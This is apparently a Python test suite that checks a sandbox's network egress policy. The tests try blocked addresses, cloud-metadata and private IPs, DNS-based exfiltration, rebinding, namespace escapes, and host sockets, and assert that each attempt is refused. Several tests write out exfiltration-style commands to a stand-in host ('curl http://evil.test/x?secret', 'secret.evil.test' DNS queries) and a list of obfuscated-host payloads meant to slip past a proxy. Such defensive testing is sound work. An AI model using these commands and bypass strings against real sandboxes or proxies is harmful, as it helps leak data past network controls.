"""What must not get out, whatever is tried, and what the host grants of itself."""

import os
import socket

from worlds import NetworkCase

DNS = ("udp", "45.33.10.53", 53)
PYTHON = "python3 - <<'END'\nimport socket, errno\n%s\nEND\n"


def attempt(statement):
    """Run a statement and print the name of the errno, or "fine"."""
    return PYTHON % ("try:\n    %s\n    print('fine')\nexcept OSError as e:\n"
                     "    print(errno.errorcode.get(e.errno, e.errno))" % statement)


class Walls(NetworkCase):
    def attempt(self, statement):
        return self.sh(attempt(statement)).strip()

    def test_connecting_by_address(self):
        for address in ("45.33.10.66", "10.0.0.5", "169.254.169.254", "198.18.77.77"):
            got = self.attempt("socket.create_connection(('%s', 80), 60).recv(1)" % address)
            self.assertEqual(got, "ECONNRESET")
            self.assertIn("network.not_allowed", {rule for rule, _ in self.denials()})
        self.assertEqual(self.left(), set())

    def test_the_ledger_has_the_refusals(self):
        for warm in (False, True):
            if warm:
                self.warm_up()
            self.sh("curl -s -o /dev/null http://evil.test/x?secret")
            told = {(d["rule"], d["what"]) for d in self.done["denials"]}
            self.assertEqual(told, {("network.not_allowed", "GET evil.test:80")})
            kept = self.client.call("operation_status", operation_id=self.done["operation_id"])
            self.assertEqual(kept["denials"], self.done["denials"])

    def test_a_refusal_belongs_to_the_command_it_was_made_for(self):
        """With a network of its own a command hears of its own refusals only."""
        self.start(network_scope="command")
        other = self.begin("touch up; until [ -e go ]; do sleep 0.05; done")
        self.until(lambda: os.path.exists(self.ws + "/up"), "the other command")
        self.sh("curl -s -o /dev/null http://evil.test/; touch go")
        self.assertEqual(self.denials(), {("network.not_allowed", "GET evil.test:80")})
        self.client_finish(other)
        self.assertEqual(self.denials(), set())

    def test_allowed_address_is_reached_without_a_proxy_setting(self):
        self.start(egress={"allow": ["45.33.10.10:80"]})
        self.assertEqual(self.sh("curl -sS --noproxy '*' http://45.33.10.10/file.txt"),
                         "from the internet\n")

    def test_a_network_made_inside_reaches_nothing(self):
        """[C1] Root of a user namespace is nobody in the network around, and alone in its own."""
        self.start(egress={"allow": ["45.33.10.10:80"]}, user_namespaces=True)
        get = "curl -sS --noproxy \\* http://45.33.10.%d/file.txt 2>/dev/null || echo none"
        for warm in (False, True):
            if warm:
                self.warm_up()
            self.assertEqual(self.sh("unshare -Urn sh -c '%s'" % (get % 10)), "none\n")
            self.assertEqual(self.denials(), set())
            self.assertEqual(self.sh("unshare -Ur sh -c '%s'" % (get % 10)), "from the internet\n")
            self.assertEqual(self.sh("unshare -Ur sh -c '%s'" % (get % 66)), "none\n")
            self.assertIn("network.not_allowed", {rule for rule, _ in self.denials()})
            down = ("import fcntl, socket, struct\n"
                    "try: fcntl.ioctl(socket.socket(), 0x8914, struct.pack('16sH14x', b'lo', 0))\n"
                    "except OSError as e: print(e.errno)")
            self.assertEqual(self.sh('unshare -Ur python3 -c "%s"' % down), "1\n")  # EPERM
            self.assertEqual(self.sh(get % 10), "from the internet\n")

    def test_datagrams(self):
        got = self.attempt("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
                           "s.connect(('45.33.10.66', 9999)); s.send(b'x'); s.settimeout(60); "
                           "s.recv(1)")
        self.assertEqual(got, "ECONNREFUSED")
        self.assertEqual(self.left(), set())

    def test_ipv6(self):
        got = self.attempt("socket.create_connection(('2001:db8::1', 80), 60)")
        self.assertEqual(got, "ENETUNREACH")
        self.assertEqual(self.left(), set())

    def test_raw_and_other_sockets(self):
        for arguments, error in (
                ("socket.AF_INET, socket.SOCK_RAW, 1", "EPERM"),
                ("socket.AF_PACKET, socket.SOCK_RAW", "EAFNOSUPPORT"),
                ("socket.AF_VSOCK, socket.SOCK_STREAM", "EAFNOSUPPORT"),
                ("socket.AF_NETLINK, socket.SOCK_RAW, 12", "EPERM")):
            self.assertEqual(self.attempt("socket.socket(%s)" % arguments), error, arguments)

    def test_the_network_cannot_be_changed(self):
        out = self.sh("ip route del local default dev lo table local 2>&1; "
                      "ip link set lo down 2>&1; ip addr add 10.9.9.9/32 dev lo 2>&1", code=None)
        self.assertEqual(out.count("Operation not permitted"), 3, out)

    def test_names_carry_nothing_out(self):
        self.start(egress={"allow": ["example.test", "**.open.test"], "deny": ["evil.test"]})
        self.sh("for n in secret.evil.test secret.other.test data.open.test; do getent hosts $n; done;"
                "python3 -c \"%s\"" % (
                    "import socket, struct\n"
                    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                    "s.settimeout(60)\n"
                    "q = struct.pack('!6H', 7, 256, 1, 0, 0, 0) + b'\\x06secret\\x04evil\\x04test\\0'"
                    " + struct.pack('!2H', 16, 1)\n"
                    "for to in ('45.33.10.53', '45.33.10.66', '127.0.0.1'):\n"
                    "    s.sendto(q, (to, 53)); r = s.recv(512); assert r[3] & 15 == 3, r\n"))
        self.assertEqual(self.internet.log()["names"], [])
        self.assertEqual(self.left(), set())

    def test_policy_comes_before_the_look_up(self):
        self.sh("curl -s -o /dev/null http://secret.evil.test/")
        self.sh("curl -s -o /dev/null -x $ALL_PROXY http://secret.evil.test/", code=97)
        self.assertEqual(self.internet.log()["names"], [])

    def test_names_that_lead_inside(self):
        self.start(egress={"allow": ["*.test"]})
        for name in ("private", "meta", "loop", "mixed"):
            out = self.sh("curl -si http://%s.test/" % name)
            self.assertIn("x-codespace-verdict: address_not_public", out, name)
        self.assert_left(DNS)

    def test_rebinding(self):
        self.start(egress={"allow": ["rebind.test"]})
        out = self.sh("for i in 1 2 3; do curl -s -o /dev/null -w '%{http_code} ' "
                      "http://rebind.test/file.txt; done")
        self.assertEqual(out.split()[1:], ["403", "403"])
        self.assert_left(DNS, ("tcp", "45.33.10.10", 80))

    def test_private_that_is_granted(self):
        self.start(egress={"allow": ["private.test"], "private": ["10.0.0.5/32"]})
        out = self.sh("curl -si -m 20 http://private.test/")
        self.assertIn("connection_refused", out)
        self.assert_left(DNS, ("tcp", "10.0.0.5", 80))

    def test_hostile_hosts(self):
        script = """
import socket
for host in ("example.test.evil.test", "example.test@evil.test", "0x2d.33.10.66", "757139010",
             "[::ffff:45.33.10.66]", "notexample.test", "evil.test%00.example.test",
             "evil.test\\0.example.test", "example.test.evil.test.", "45.33.10.66",
             "evil.test#.example.test", "evil.test\\\\.example.test"):
    for line in ("GET http://%s/ HTTP/1.1", "CONNECT %s:80 HTTP/1.1"):
        sock = socket.create_connection(("127.0.0.1", 880), 60)
        head = line % host + "\\r\\nHost: example.test\\r\\nConnection: close\\r\\n\\r\\n"
        sock.sendall(head.encode("latin-1"))
        print(sock.recv(9999).decode("latin-1").splitlines()[0])
"""
        with open(self.ws + "/hosts.py", "w") as out:
            out.write(script.replace("\\\\", "\\"))
        lines = self.sh("python3 hosts.py").splitlines()
        self.assertEqual(len(lines), 24)
        for line in lines:
            self.assertRegex(line, r"^HTTP/1\.1 40[03] ")
        self.assertEqual(self.left(), set())

    def test_methods(self):
        self.start(egress={"allow": ["example.test"], "methods": ["GET", "HEAD"]})
        out = self.sh("for m in GET POST; do curl -s -o /dev/null -w '%{http_code} ' -X $m "
                      "http://example.test/file.txt; done; curl -s -o /dev/null -w '%{http_code}' "
                      "--noproxy '*' -X POST http://example.test/file.txt; "
                      "curl -s --cacert cert.pem https://example.test/ || echo \" $?\"", code=None)
        self.assertEqual(out.split()[:3], ["200", "403", "403"])
        self.assertEqual({p[2] for p in self.left()} & {443}, set())


class Host(NetworkCase):
    def test_loopback_of_the_host(self):
        _, granted = self.serve_host(b"HTTP/1.0 200 OK\r\n\r\ngranted\n")
        _, other = self.serve_host(b"HTTP/1.0 200 OK\r\n\r\nsecret\n")
        self.start(egress={"local_ports": [granted]})
        self.assertEqual(self.sh("curl -sS http://localhost:%d/" % granted), "granted\n")
        self.assertEqual(self.sh("curl -sS --noproxy '*' http://127.0.0.1:%d/" % granted),
                         "granted\n")
        out = self.sh("curl -sS http://localhost:%d/; curl -sS --noproxy '*' http://127.0.0.1:%d/"
                      % (other, other), code=7)
        self.assertNotIn("secret", out)

    def test_abstract_sockets_of_the_host(self):
        name = "\0cs-net-%d" % os.getpid()
        self.serve_host(b"secret", family=socket.AF_UNIX, address=name)
        out = self.sh(attempt("socket.socket(socket.AF_UNIX).connect('\\\\0%s')" % name[1:]).replace(
            "\\\\0", "\\0"))
        self.assertEqual(out.strip(), "ECONNREFUSED")

    def test_unix_sockets_that_are_granted(self):
        path = self.dir + "/granted.sock"
        self.serve_host(b"granted", family=socket.AF_UNIX, address=path)
        other = self.dir + "/other.sock"
        self.serve_host(b"secret", family=socket.AF_UNIX, address=other)
        self.start(egress={"unix_sockets": [path]})
        connect = PYTHON % "s = socket.socket(socket.AF_UNIX)\ns.connect('%s')\nprint(s.recv(9))"
        self.assertEqual(self.sh(connect % path), "b'granted'\n")
        self.assertNotIn("secret", self.sh(connect % other + " 2>&1", code=None))

    def test_publish(self):
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            port = probe.getsockname()[1]
        self.start(publish=[port])
        ident = self.begin(
            "python3 -m http.server %d --bind 127.0.0.1 >/dev/null 2>&1 & "
            "until curl -sf http://localhost:%d/cert.pem >/dev/null; do :; done; "
            "touch up; until [ -e stop ]; do sleep 0.05; done" % (port, port))
        self.until(lambda: os.path.exists(self.ws + "/up"), "the command's server")
        with socket.create_connection(("127.0.0.1", port), 60) as sock:
            sock.sendall(b"GET /cert.pem HTTP/1.0\r\n\r\n")
            data = b""
            while chunk := sock.recv(65536):
                data += chunk
        open(self.ws + "/stop", "w").close()
        self.client_finish(ident)
        self.assertIn(b"BEGIN CERTIFICATE", data)
        self.assertEqual(self.left(), set())
